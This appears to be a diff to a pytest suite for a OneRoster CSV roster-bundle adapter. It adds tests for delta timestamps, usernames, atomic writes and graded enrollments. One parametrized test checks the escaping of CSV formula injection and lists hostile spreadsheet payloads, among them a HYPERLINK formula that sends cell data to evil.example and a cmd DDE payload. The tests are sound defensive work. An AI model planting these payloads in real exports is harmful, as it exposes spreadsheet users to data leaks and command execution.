@@ -90,17 +90,67 @@ def archive_header(path, name):
         return next(csv.reader(io.StringIO(archive.read(name).decode())))
 
 
-def test_delta_bundle_marks_removals_and_reads_since(tmp_path):
+def test_delta_bundle_marks_removals_and_dates_rows_at_the_write(tmp_path):
     path = tmp_path / "delta.zip"
+    before = datetime.now(UTC).replace(microsecond=0)
     with OneRosterCsvAdapter(path, version="1.2", mode="delta") as adapter:
         adapter.write("enrollments", [Change(key="a", stream="enrollments", action="update", record=Enrollment(
             person=PEOPLE[0], course_id="c1", status="inactive", updated_at=WHEN))])
+    after = datetime.now(UTC)
     reader = OneRosterCsvAdapter(path)
     (enrollment,) = reader.read("enrollments")
     assert enrollment.status == "inactive"
-    assert list(reader.read("enrollments", ReadScope(since=WHEN))) == []
+    assert list(reader.read("enrollments", ReadScope(since=after))) == []
+    assert len(list(reader.read("enrollments", ReadScope(since=before)))) == 1
     with zipfile.ZipFile(path) as archive:
         assert "file.enrollments,delta" in archive.read("manifest.csv").decode()
+        for name in set(archive.namelist()) - {"manifest.csv"}:
+            for row in csv.DictReader(io.StringIO(archive.read(name).decode())):
+                stamp = datetime.fromisoformat(row["dateLastModified"].replace("Z", "+00:00"))
+                assert before <= stamp <= after, f"{name}: {row['dateLastModified']} is not the time of the write"
+
+
+@pytest.mark.parametrize("version", ["1.1", "1.2"])
+def test_every_user_has_the_required_username(tmp_path, version):
+    path = tmp_path / "bundle.zip"
+    _write_bundle(path, version)
+    with zipfile.ZipFile(path) as archive:
+        users = {r["sourcedId"]: r for r in csv.DictReader(io.StringIO(archive.read("users.csv").decode()))}
+    assert users["2025001"]["username"] == "zhangsan"
+    assert users["ada"]["username"] == "ada", "no username of its own: the sourcedId it is given"
+    assert all(row["username"] for row in users.values())
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"查看")', "+1+cmd|' /C calc'!A0",
+                                  "-2+3", "@SUM(A1:A9)", "\t=1+1"])
+def test_formula_like_text_is_written_behind_a_quote_and_read_back_as_given(tmp_path, name):
+    path = tmp_path / "bundle.zip"
+    person = Person(student_number="2025009", name=name, phone="+86 138 0000 0000")
+    with OneRosterCsvAdapter(path) as adapter:
+        assert adapter.write("persons", _changes("persons", [person]))[0].status == "applied"
+        title = adapter.write("courses", _changes("courses", [Course(course_id="c1", title=name)]))
+        assert title[0].status == "applied"
+    with zipfile.ZipFile(path) as archive:
+        cells = [c for n in ("users.csv", "classes.csv", "courses.csv")
+                 for row in csv.reader(io.StringIO(archive.read(n).decode())) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t") and c != person.phone]
+    written = Course(course_id="c1", title=name).title  # as a record keeps it (stripped)
+    assert cells.count("'" + written) >= 2  # the class's title and its course's, and the name's parts
+    reader = OneRosterCsvAdapter(path)
+    (back,) = reader.read("persons")
+    assert back.name == written and back.phone == person.phone
+    assert [c.title for c in reader.read("courses")] == [written]
+
+
+def test_identifiers_that_look_like_formulas_are_refused_not_changed(tmp_path):
+    path = tmp_path / "bundle.zip"
+    good = Person(student_number="2025001", name="张三")
+    bad = Person(student_number="=1+1", name="李四")
+    with OneRosterCsvAdapter(path) as adapter:
+        results = adapter.write("persons", _changes("persons", [good, bad]))
+    assert [r.status for r in results] == ["applied", "failed"]
+    assert results[1].error["code"] == "formula_cell" and "sourcedId" in results[1].message
+    assert [p.student_number for p in OneRosterCsvAdapter(path).read("persons")] == ["2025001"]
 
 
 def test_writing_is_atomic_and_keeps_the_old_bundle_on_failure(tmp_path, monkeypatch):
@@ -108,17 +158,21 @@ def test_writing_is_atomic_and_keeps_the_old_bundle_on_failure(tmp_path, monkeyp
     _write_bundle(path, "1.2")
     before = path.read_bytes()
     adapter = OneRosterCsvAdapter(path, version="1.2")
-    adapter.write("courses", _changes("courses", [Course(course_id="c9", title="X")]))
     import adapters.oneroster.csvbundle as bundle
 
     def boom(*args, **kwargs):
         raise OSError("disk full")
 
-    monkeypatch.setattr(bundle.os, "replace", boom)
-    with pytest.raises(OSError):
-        adapter.close()
+    with monkeypatch.context() as patched:
+        patched.setattr(bundle.os, "replace", boom)
+        (result,) = adapter.write("courses", _changes("courses", [Course(course_id="c9", title="X")]))
+    assert result.status == "failed" and result.retriable and result.error["code"] == "write_failed"
+    assert "disk full" in result.message
     assert path.read_bytes() == before
     assert [p.name for p in tmp_path.iterdir()] == ["bundle.zip"]
+    assert adapter.current(_changes("courses", [Course(course_id="c9", title="X")])[0]) is None, "not on disk"
+    assert adapter.write("courses", _changes("courses", [Course(course_id="c9", title="X")]))[0].status == "applied"
+    assert {c.course_id for c in OneRosterCsvAdapter(path).read("courses")} == {"c1", "c9"}
 
 
 def _zip(path, files, manifest=True, version="1.2"):
@@ -189,3 +243,15 @@ def test_oversized_and_non_zip_bundles(tmp_path):
     with pytest.raises(DataError) as info:
         BundleReader(junk)
     assert info.value.code == "bad_zip"
+
+
+def test_a_bulk_bundle_keeps_the_enrollment_of_a_graded_student(tmp_path):
+    path = tmp_path / "bundle.zip"
+    _write_bundle(path, "1.2")  # 2025001 has a result in c1
+    leave = [Enrollment(person=PEOPLE[0], course_id="c1", status="inactive"),
+             Enrollment(person=PEOPLE[1], course_id="c1", role="teacher", status="inactive")]
+    with OneRosterCsvAdapter(path) as adapter:
+        kept, gone = adapter.write("enrollments", _changes("enrollments", leave))
+    assert kept.status == "failed" and kept.error["code"] == "graded_enrollment" and "mode=delta" in kept.message
+    assert gone.status == "applied"
+    assert [e.person.student_number for e in OneRosterCsvAdapter(path).read("enrollments")] == ["2025001"]
